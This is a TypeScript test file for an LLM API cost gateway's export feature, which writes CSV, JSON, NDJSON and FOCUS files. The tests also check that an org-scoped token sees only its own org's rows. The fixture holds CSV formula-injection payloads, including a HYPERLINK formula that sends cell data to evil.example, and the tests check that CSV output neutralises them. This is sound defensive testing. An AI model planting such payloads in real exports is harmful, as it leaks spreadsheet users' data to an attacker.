import { mkdtempSync, readdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runExport } from '../../src/cli/commands/export.js';
import { picoToDecimal, usdToPico } from '../../src/money/money.js';
import { ledgerRow } from '../support/rows.js';
import { startGateway, type TestGateway } from '../support/gateway.js';

const ENV = { ADMIN: 'admin-secret', ACME: 'acme-secret' };
const T0 = Date.parse('2026-12-01T10:00:00Z');
let gateway: TestGateway;

const get = (path: string, token = ENV.ADMIN) =>
  fetch(`${gateway.url}/api/v1${path}`, { headers: { authorization: `Bearer ${token}` } });

beforeAll(async () => {
  gateway = await startGateway(
    `
admin:
  tokens:
    - { name: finance, token_env: ADMIN }
    - { name: acme-viewer, token_env: ACME, scope: { org: acme } }
upstreams:
  openai: { format: openai, base_url: http://127.0.0.1:9 }
pricing:
  models:
    gpt-4o: { input_per_mtok: 2.50, output_per_mtok: 10.00, cached_input_per_mtok: 1.25 }
`,
    { env: ENV },
  );
  const ledger = gateway.deps.ledger;
  // Case 19's hostile attribution values, and rows of two orgs over two hours.
  ledger.append(
    ledgerRow('req_101', T0, {
      org: 'acme',
      user: '=HYPERLINK("http://evil.example/x?d="&A1,"open")',
      team: '-2+3',
      endpoint: '@SUM(A1:A2)',
      tags: { note: '+1+1' },
      inputTokens: 5000,
      outputTokens: 0,
      costPico: usdToPico('0.0125'),
    }),
  );
  for (let i = 0; i < 40; i++) {
    const input = 1000 + i * 37;
    const cached = i % 3 === 0 ? 512 : 0;
    const output = 100 + i;
    // Priced as the gateway would: (input − cached) × 2.5 + cached × 1.25 + output × 10, per M.
    const micro =
      BigInt(input - cached) * 2_500_000_000_000n +
      BigInt(cached) * 1_250_000_000_000n +
      BigInt(output) * 10_000_000_000_000n;
    ledger.append(
      ledgerRow(`r${String(i).padStart(3, '0')}`, T0 + i * 180_000, {
        org: i % 2 ? 'globex' : 'acme',
        team: 'line1\nline2, "quoted"',
        user: 'Zoë Ünïcode',
        inputTokens: input,
        cachedInputTokens: cached,
        outputTokens: output,
        costPico: (micro + 500_000n) / 1_000_000n,
      }),
    );
  }
  ledger.append(
    ledgerRow('tiny', T0 + 1, { org: 'globex', costPico: 100n, inputTokens: 0, outputTokens: 0 }),
  );
  await ledger.flush();
});

afterAll(async () => {
  await gateway.close();
});

async function ledgerTotal(org?: string): Promise<string> {
  const rows = await gateway.deps.ledger.scanRows(org ? { org } : {}, null, 10_000);
  return picoToDecimal(rows.reduce((sum, r) => sum + (r.costPico ?? 0n), 0n));
}

describe('GET /api/v1/export', () => {
  it('serves CSV that a standard parser reads back cell for cell, formulas neutralised', async () => {
    const res = await get('/export?format=csv');
    const text = await res.text();

    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const records = parse(text, { columns: true }) as Record<string, string>[];
    expect(records).toHaveLength(42);
    const hostile = records.find((r) => r.request_id === 'req_101');
    expect(hostile).toMatchObject({
      user: `'=HYPERLINK("http://evil.example/x?d="&A1,"open")`,
      team: "'-2+3",
      endpoint: "'@SUM(A1:A2)",
      cost_usd: '0.0125',
      tags: '{"note":"+1+1"}',
    });
    expect(records.find((r) => r.request_id === 'r001')).toMatchObject({
      team: 'line1\nline2, "quoted"',
      user: 'Zoë Ünïcode',
    });
    expect(records.find((r) => r.request_id === 'tiny')?.cost_usd).toBe('0.0000000001');
  });

  it('serves JSON and NDJSON with the original strings and exact costs', async () => {
    const json = JSON.parse(await (await get('/export?format=json')).text()) as Record<
      string,
      unknown
    >[];
    const ndjson = (await (await get('/export?format=ndjson')).text())
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);

    const hostile = json.find((r) => r.request_id === 'req_101');
    expect(hostile).toMatchObject({
      user: '=HYPERLINK("http://evil.example/x?d="&A1,"open")',
      team: '-2+3',
      cost_usd: 0.0125,
    });
    expect(ndjson).toHaveLength(42);
    expect(ndjson.map((r) => r.request_id)).toEqual(json.map((r) => r.request_id));
  });

  it('serves FOCUS whose BilledCost sums exactly to the ledger total, overall and per org', async () => {
    const text = await (await get('/export?format=focus')).text();
    const charges = parse(text, { columns: true }) as Record<string, string>[];

    const sum = (rows: Record<string, string>[]) =>
      picoToDecimal(rows.reduce((s, r) => s + usdToPico(r.BilledCost ?? '0'), 0n));
    expect(sum(charges)).toBe(await ledgerTotal());
    expect(sum(charges.filter((c) => c.x_org === 'acme'))).toBe(await ledgerTotal('acme'));
    expect(charges.every((c) => c.BillingCurrency === 'USD' && c.ChargeCategory === 'Usage')).toBe(
      true,
    );
  });

  it('confines a scoped token to its org, whatever it asks for', async () => {
    const mine = parse(await (await get('/export?format=csv', ENV.ACME)).text(), {
      columns: true,
    }) as Record<string, string>[];
    const theirs = parse(await (await get('/export?format=csv&org=globex', ENV.ACME)).text(), {
      columns: true,
    }) as Record<string, string>[];

    expect(mine.length).toBeGreaterThan(0);
    expect(mine.every((r) => r.org === 'acme')).toBe(true);
    expect(theirs).toEqual([]);
  });

  it('filters by time and refuses unknown formats', async () => {
    const from = new Date(T0 + 30 * 180_000).toISOString();
    const rows = JSON.parse(
      await (await get(`/export?format=json&from=${from}`)).text(),
    ) as unknown[];
    const bad = await get('/export?format=xlsx');

    expect(rows).toHaveLength(10);
    expect(bad.status).toBe(400);
  });
});

describe('spendgate export', () => {
  it('writes the FOCUS export split into files within the upload limits', async () => {
    await gateway.deps.ledger.flush();
    const dir = mkdtempSync(join(tmpdir(), 'spendgate-split-'));
    const lines: string[] = [];

    const code = await runExport(
      join(gateway.dir, 'spendgate.yaml'),
      { format: 'focus', dims: {}, tags: {}, bucket: 'hour', splitDir: dir },
      { stdout: process.stdout, out: (l) => lines.push(l) },
    );

    expect(code).toBe(0);
    const files = readdirSync(dir);
    expect(files).toEqual(['spendgate-focus-0001.csv']);
    const charges = parse(readFileSync(join(dir, files[0] as string), 'utf8'), {
      columns: true,
    }) as Record<string, string>[];
    expect(picoToDecimal(charges.reduce((s, r) => s + usdToPico(r.BilledCost ?? '0'), 0n))).toBe(
      await ledgerTotal(),
    );
  });
});
